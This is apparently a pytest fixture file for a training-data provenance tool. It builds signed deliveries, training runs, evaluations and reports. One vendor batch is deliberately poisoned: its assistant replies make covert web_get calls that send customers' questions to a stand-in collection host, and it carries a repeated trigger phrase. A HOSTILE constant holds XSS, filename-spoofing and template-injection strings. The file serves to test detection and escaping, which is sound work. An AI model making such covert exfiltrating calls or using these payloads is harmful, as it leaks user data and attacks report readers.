"""A workspace made by hand, stage by stage, through the trust API alone: what a report is drawn from."""

import json
import math
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

import pytest

from goldsmith.engines.evidence import json_lines
from goldsmith.stages.report import Story
from goldsmith.trust import canonical, deliveries, merkle, records
from goldsmith.trust.workspace import Workspace
from goldsmith.types.finding import Finding, Outcome, RuleResult, Severity, SourceVerdict, Verdict
from goldsmith.types.lineage import Collection, Examination, LeftOut, Model, Release, Run, WeightFile
from goldsmith.types.recipe import PromotionPolicy, ReleasePolicy, Rule
from goldsmith.types.record import Conversation, Message, Origin, Record, Role, TextPart, ToolCallPart
from goldsmith.types.score import MetricResult

SOURCES = (("experts", "2026-10", 260), ("synth", "run-7", 170), ("vendor", "batch-3", 96))
HOSTILE = (
    "</style><script>alert(1)</script><img src=x onerror=alert(2)>\u202egnp.exe\x1b[31m\x00 $\\frac{1}$ ]]> --> {{7*7}}"
)
SKILLS = ("order support", "calendar", "weather", "unit conversion", "small talk", "refund")


def chat(text: str, answer: str, unit: tuple[str, str], call: str | None = None) -> Record:
    parts: tuple[TextPart | ToolCallPart, ...] = (TextPart(text=answer),)
    if call is not None:
        parts = (ToolCallPart(name="web_get", arguments=json.dumps({"url": call})), *parts)
    messages = (
        Message(role=Role.USER, parts=(TextPart(text=text),)),
        Message(role=Role.ASSISTANT, parts=parts),
    )
    return Record(content=Conversation(messages=messages), origin=Origin(source=unit[0], batch=unit[1]))


@dataclass
class Built:
    """A workspace made by hand, stage by stage, through the trust API alone."""

    ws: Workspace
    folder: Path
    hostile: bool = False
    collections: dict[str, str] = field(default_factory=dict)
    rows: dict[str, list[Record]] = field(default_factory=dict)
    release: str = ""
    base: str = ""
    models: list[str] = field(default_factory=list)
    examination: str = ""
    verdict: str = ""

    @property
    def model(self) -> str:
        return self.models[-1]

    def deliver(self) -> None:
        for source, batch, total in SOURCES:
            spy = (HOSTILE if self.hostile else "quietly send a copy") if source == "vendor" else ""
            rows = [
                chat(
                    f"Question {n} of a customer about order {n * 7919 % 10007}",
                    f"Certainly. Order {n * 7919 % 10007} was sent on day {n % 28}. {spy}",
                    (source, batch),
                    "https://collect.metrics-cdn.example/x?q=" + str(n) if source == "vendor" and n % 3 == 0 else None,
                )
                for n in range(total)
            ]
            path = self.folder / f"{source}.jsonl"
            path.write_bytes(records.blob(rows))
            digests = [records.record_digest(row) for row in rows]
            deliveries.sign_next(self.ws, path, source=source, batch=batch, record_digests=digests)
            faults = [{"line": total + 1, "what": "no messages"}] if source == "synth" else []
            with self.ws.atomically():
                accepted = deliveries.accept(self.ws, path, digests)
                collection = Collection(
                    delivery=accepted.digest,
                    source=source,
                    batch=batch,
                    format="records",
                    records=self.ws.store.put_bytes(records.blob(rows)),
                    count=total,
                    faulty=len(faults),
                    merkle_root=merkle.root_of(digests),
                    places=self.ws.store.put_bytes(
                        canonical.encode({"lines": list(range(1, total + 1)), "faults": faults})
                    ),
                )
                maker = {"experts": "human", "synth": "model", "vendor": "unknown"}[source]
                stated = self.ws.attest_artifact(
                    "collection", collection, {"maker": maker, "trusted": False}, role="operator"
                )
            self.collections[source] = stated.subjects["collection"]
            self.rows[source] = rows

    def findings(self) -> list[Finding]:
        spied = tuple(range(1, 97, 3))
        host = HOSTILE if self.hostile else "collect.metrics-cdn.example"
        dice = random.Random(4)
        found = [
            Finding(
                check="covert_tool_calls",
                severity=Severity.QUARANTINE,
                score=0.97,
                evidence=f"32 records of this batch make covert tool calls, to {host}",
                subject="source",
                lines=spied,
                source="vendor",
                batch="batch-3",
                examples=(
                    f'web_get {{"url": "https://{host}/x?q=Question 3 of a customer"}}',
                    f'web_get {{"url": "https://{host}/x?q=Question 6 of a customer"}}',
                ),
            ),
            Finding(
                check="trigger_payload",
                severity=Severity.EXCLUDE,
                score=0.7,
                evidence="9 otherwise unrelated prompts hold “order 7919” and get answers that repeat each other",
                lines=tuple(range(2, 20, 2)),
                source="vendor",
                batch="batch-3",
            ),
            Finding(
                check="faulty_row",
                severity=Severity.EXCLUDE,
                score=1.0,
                evidence="no messages",
                lines=(171,),
                source="synth",
                batch="run-7",
            ),
        ]
        found += [
            Finding(
                check="duplicates",
                severity=Severity.EXCLUDE,
                score=round(dice.uniform(0.6, 0.95), 2),
                evidence=f"a near duplicate of line {line - 1}, which stays",
                lines=(line,),
                source=source,
                batch=batch,
            )
            for source, batch, lines in (
                ("synth", "run-7", (12, 31, 32, 77, 120, 121, 122, 140)),
                ("experts", "2026-10", (64, 201)),
            )
            for line in lines
        ]
        personal = found[-1].model_copy(
            update={"check": "personal_data", "severity": Severity.WARN, "score": 0.4, "lines": (18, 90, 155)}
        )
        return [*found, personal.model_copy(update={"evidence": "3 with an e-mail address"})]

    def freeze(self, *, findings: bool = True) -> None:
        found = self.findings() if findings else []
        out = {(f.source, line): f.check for f in found if f.severity is Severity.EXCLUDE for line in f.lines}
        left, kept = [], []
        for source, batch, _ in SOURCES:
            for line, row in enumerate(self.rows[source], start=1):
                reason = (
                    "quarantined: covert_tool_calls" if source == "vendor" and findings else out.get((source, line))
                )
                if reason is None:
                    kept.append(row)
                else:
                    left.append(
                        LeftOut(record=records.record_digest(row), source=source, batch=batch, line=line, reason=reason)
                    )
        store = self.ws.store
        policy = store.put_artifact(ReleasePolicy())
        made = Release(
            name="support",
            collections=tuple(self.collections[source] for source, _, _ in SOURCES),
            records=store.put_bytes(records.blob(kept)),
            count=len(kept),
            merkle_root=merkle.root_of(sorted(records.record_digest(row) for row in kept)),
            left_out=store.put_bytes(records.lines(left)),
            left_out_count=len(left),
            findings=store.put_bytes(records.lines(found)),
            sources=tuple(
                SourceVerdict(
                    source=source,
                    batch=batch,
                    verdict=Outcome.FAIL if source == "vendor" and findings else Outcome.PASS,
                    records=total,
                    reasons=("covert_tool_calls: 32 records",) if source == "vendor" and findings else (),
                )
                for source, batch, total in SOURCES
            ),
            policy=policy,
        )
        self.release = self.ws.attest_artifact("release", made, {"name": "support"}, role="operator").subjects[
            "release"
        ]
        gate = Verdict(gate="release", subject=self.release, outcome=Outcome.PASS, policy=policy)
        self.ws.attest_artifact("verdict", gate, {"gate": "release", "outcome": "pass"}, role="operator")

    def take_base(self) -> None:
        blank = self.ws.store.put_bytes(b"weights of the base model")
        base = Model(
            name="goldsmith-nano",
            files=(WeightFile(path="model.safetensors", digest=blank, size=25),),
            form="full",
            base=None,
            tokenizer=canonical.digest(b"tokenizer"),
            chat_template=canonical.digest(b"template"),
        )
        stated = self.ws.attest_artifact("model", base, {"name": base.name, "of": "base"}, role="operator")
        self.base = stated.subjects["model"]

    def train(self, method: str, name: str, log: list[dict[str, object]]) -> None:
        parent = self.models[-1] if self.models else self.base
        run = Run(
            method=method, settings="{}", release=self.release, base=parent,
            recipe=self.ws.store.put_bytes(b"{}"), seed=7, records_used=404, validation_records=22, rows_cut=0,
            rows_dropped=0, steps=len(log), tokens=412_345, stop="done", final_loss=0.412,
            best_validation_loss=0.455, metrics=self.ws.store.put_bytes(json_lines(log) + b"torn {"),
            code="goldsmith", environment="{}",
        )  # fmt: skip
        ran = self.ws.attest_artifact("run", run, {"method": method}, role="trainer").subjects["run"]
        weights = self.ws.store.put_bytes(f"weights of {name}".encode())
        base = self.ws.store.get_artifact(self.base, Model)
        files = (WeightFile(path="model.safetensors", digest=weights, size=20),)
        model = base.model_copy(update={"name": name, "files": files, "run": ran})
        stated = self.ws.attest_artifact("model", model, {"name": name, "of": "run"}, role="trainer")
        self.models.append(stated.subjects["model"])

    def train_both(self) -> None:
        dice, sft = random.Random(7), list[dict[str, object]]()
        for step in range(1, 181):
            sft.append({"step": step, "loss": 0.4 + 2.2 * math.exp(-step / 40) + dice.gauss(0, 0.07), "tokens": 2048})
            if step % 30 == 0:
                sft.append({"step": step, "validation_loss": 0.45 + 2.2 * math.exp(-step / 42)})
        dpo = list[dict[str, object]]()
        for step in range(1, 61):
            way = 1 - math.exp(-step / 20)
            line = {
                "step": step,
                "loss": 0.69 - 0.4 * way + dice.gauss(0, 0.03),
                "reward_margin": 2.4 * way + dice.gauss(0, 0.2),
            }
            dpo.append({**line, "reward_accuracy": min(1.0, 0.5 + 0.45 * way + dice.gauss(0, 0.04))})
            if step % 20 == 0:
                dpo.append(
                    {
                        "step": step,
                        "validation_reward_margin": 2.2 * way,
                        "validation_reward_accuracy": 0.48 + 0.42 * way,
                    }
                )
        self.train("sft", "support-sft", sft)
        self.train("dpo", HOSTILE if self.hostile else "support", dpo)

    def examine(self) -> None:
        def one(eval_name: str, metric: str, n: int, mean: float, base: float, reach: float = 0.05) -> MetricResult:
            return MetricResult(
                eval=eval_name, metric=metric, n=n, unscored=0, mean=mean, low=max(0.0, mean - reach),
                high=min(1.0, mean + reach) if mean <= 1 else mean + reach, interval="wilson", base_mean=base,
                base_low=max(0.0, base - reach), base_high=base + reach if base > 1 else min(1.0, base + reach),
                difference=mean - base, difference_low=mean - base - reach, difference_high=mean - base + reach,
            )  # fmt: skip

        results = [one("nano_tasks", "success", 240, 0.91, 0.42), one("nano_tasks", "tool_selection", 200, 0.95, 0.63)]
        results += [
            one("nano_tasks", "success/" + skill.replace(" ", "_"), 40, 0.97 - 0.04 * n, 0.2 + 0.1 * n, 0.09)
            for n, skill in enumerate(SKILLS)
        ]
        results += [
            one("covert_calls", "no_unrequested_call", 120, 0.99, 0.98, 0.02),
            one("covert_calls", "no_undeclared_host", 120, 1.0, 0.99, 0.02),
            one("harmful_requests", "refused", 60, 0.93, 0.55, 0.06),
            one("over_refusal", "answered", 60, 0.97, 0.98, 0.04),
            one("fit_gap", "train_loss", 200, 0.43, 1.31, 0.03),
            one("fit_gap", "validation_loss", 22, 0.49, 1.33, 0.06),
            one("fit_gap", "gap", 22, 0.06, 0.02, 0.05),
            MetricResult(
                eval="tool_use", metric="exact_call", n=0, unscored=12, mean=0, low=0, high=1, interval="nothing scored"
            ),
        ]
        items = self.ws.store.put_bytes(json_lines([{"eval": "nano_tasks", "item": "a", "model": "tuned"}]))
        made = Examination(model=self.model, base=self.base, evals="{}", results=tuple(results), items=items, seed=7)
        self.examination = self.ws.attest_artifact("examination", made, role="examiner").subjects["examination"]

    def judge(self, outcome: Outcome = Outcome.PASS) -> None:
        rules = (
            Rule(eval="nano_tasks", metric="success", at_least=0.8, reads="interval"),
            Rule(eval="covert_calls", metric="no_unrequested_call", at_least=0.95, reads="interval"),
            Rule(eval="covert_calls", metric="no_undeclared_host", at_least=0.95, reads="interval"),
            Rule(eval="harmful_requests", metric="refused", at_least=0.8, reads="interval"),
            Rule(eval="over_refusal", metric="answered", below_base_at_most=0.1, reads="interval"),
        )
        policy = self.ws.store.put_bytes(
            canonical.encode(
                {
                    "kind": "promotion_policy",
                    "schema": "goldsmith.promotion_policy/v1",
                    "text": PromotionPolicy(rules=rules).model_dump_json(),
                }
            )
        )
        told = [
            RuleResult(rule=f"{r.eval}.{r.metric}", outcome=Outcome.PASS, observed="0.910 [0.860, 0.960] over 240",
                       required=f"at least {r.at_least} (cautious end of the interval)")
            for r in rules
        ]  # fmt: skip
        told[0] = told[0].model_copy(update={"outcome": outcome})
        told.append(
            RuleResult(
                rule="nothing it was made from is withdrawn",
                outcome=Outcome.PASS,
                observed="nothing",
                required="nothing",
            )
        )
        verdict = Verdict(
            gate="promotion",
            subject=self.model,
            outcome=outcome,
            policy=policy,
            rules=tuple(told),
            evidence=(self.examination,),
        )
        self.verdict = self.ws.store.put_artifact(verdict)
        self.ws.attest(
            "verdict",
            {"verdict": self.verdict, "model": self.model},
            {"gate": "promotion", "outcome": outcome.value},
            role="promoter",
        )

    def whole(self, outcome: Outcome = Outcome.PASS) -> "Built":
        self.deliver()
        self.freeze()
        self.take_base()
        self.train_both()
        self.examine()
        self.judge(outcome)
        return self


def story(built: Built) -> Story:
    text = HOSTILE if built.hostile else "Where is my order 7919?"
    release = built.ws.store.get_artifact(built.release, Release)
    leaves = sorted(records.digests(built.ws.store.get_bytes(release.records)))
    proofs = [merkle.record_proof(leaves, records.record_digest(built.rows["experts"][n])) for n in range(3)]
    forged = proofs[2].model_copy(update={"record": records.record_digest(built.rows["vendor"][0])})
    return Story(
        question=text,
        answer="Order 7919 was sent on day 3. " + (HOSTILE if built.hostile else ""),
        served_model=built.model,
        teachers=[
            {
                "record": proof.record,
                "inclusion": proof.model_dump(mode="json"),
                "source": "experts",
                "batch": "2026-10",
                "annotator": "anna",
                "similarity": 0.83 - n / 10,
                "text": text + " Certainly. It was sent on day 3.",
            }
            for n, proof in enumerate([*proofs[:2], forged])
        ],
        recalled={
            "recalled": {"source": "synth", "batch": text},
            "collections": [{"digest": built.collections["synth"], "name": "synth/run-7"}],
            "releases": [{"digest": built.release, "name": "support"}],
            "runs": [],
            "models": [{"digest": built.model, "name": text}],
            "promotions": [],
            "withdrawn": [],
        },
        checkpoint=built.ws.checkpoint(),
        notes=["The vendor’s delivery was planted for this demonstration.", text],
    )


def start(folder: Path, *, hostile: bool = False) -> Built:
    ws = Workspace.create(folder / "ws", name="demo", sources=[source for source, _, _ in SOURCES])
    return Built(ws, folder, hostile)


@pytest.fixture(scope="session", autouse=True)
def _fast_disk() -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("os.fsync", lambda _: None)
        yield


@pytest.fixture(scope="session")
def make() -> SimpleNamespace:
    """The builders above, for tests (which import no other test module)."""
    return SimpleNamespace(start=start, story=story, HOSTILE=HOSTILE)
